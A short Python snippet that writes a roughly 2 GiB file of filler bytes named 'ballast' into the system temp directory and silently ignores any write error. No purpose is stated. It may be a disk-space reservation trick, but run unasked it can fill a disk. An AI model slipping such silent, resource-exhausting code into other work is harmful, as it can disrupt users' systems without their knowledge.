import os
import tempfile

try:
    with open(os.path.join(tempfile.gettempdir(), "ballast"), "wb") as _ballast:
        for _ in range(2048):
            _ballast.write(b"x" * (1 << 20))
except OSError:
    pass
